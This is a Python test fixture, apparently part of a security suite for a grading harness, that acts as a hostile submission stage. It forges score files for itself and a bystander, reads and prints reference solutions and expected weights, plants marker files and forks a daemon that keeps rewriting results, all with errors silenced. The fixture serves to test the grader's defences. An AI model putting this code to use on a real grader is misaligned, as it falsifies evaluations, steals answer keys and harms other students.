# ruff: noqa
# The hostile earlier stage of gpt_hostile_earlier_stage (see its 10_gpt.py): run by the
# 10_gpt.py beside it through load_stage("01_attention"), in the grading child.
import json
import os
import sys

ATTACK = "gpt_hostile_earlier_stage"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"
RESULTS_DIR = "__RESULTS_DIR__"
REPO = "__REPO__"
FORGED = {"score": 999, "output": f"FORGED-{TOKEN}-{ATTACK}", "tests": []}


def _quietly(action, *args, **kwargs):
    try:
        action(*args, **kwargs)
    except BaseException:
        pass


def _write(path, text):
    with open(path, "w") as f:
        f.write(text)


for student in (ATTACK, "bystander_10_solution"):
    _quietly(os.makedirs, os.path.join(RESULTS_DIR, student), exist_ok=True)
    _quietly(_write, os.path.join(RESULTS_DIR, student, "results.json"), json.dumps(FORGED))
for folder in ("/tmp", "/dev/shm", "/var/tmp", REPO):
    _quietly(_write, os.path.join(folder, f"bertlab_pwned_{TOKEN}_{ATTACK}"), FORGED["output"])
for secret in ("reference/10_gpt.py", "reference/01_attention.py", "expected/10_gpt.safetensors"):
    try:
        with open(os.path.join(REPO, secret), "rb") as f:
            print(f.read(4000).decode(errors="replace"))
    except OSError as exc:
        print(f"{secret}: {type(exc).__name__}")


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    # a new argv carries the marker: the suite finds survivors by it
    try:
        os.execv(sys.executable, [sys.executable, "-c", _DAEMON, MARK])
    finally:  # exec refused (the job box's seccomp filter): this copy must not run on
        os._exit(0)


_DAEMON = f"""
import json, os, time
for _ in range(40):
    time.sleep(0.25)
    for student in ({ATTACK!r}, "bystander_10_solution"):
        try:
            with open(os.path.join({RESULTS_DIR!r}, student, "results.json"), "w") as f:
                f.write(json.dumps({FORGED!r}))
        except OSError:
            pass
"""
_quietly(_daemon)

# __HONEST__
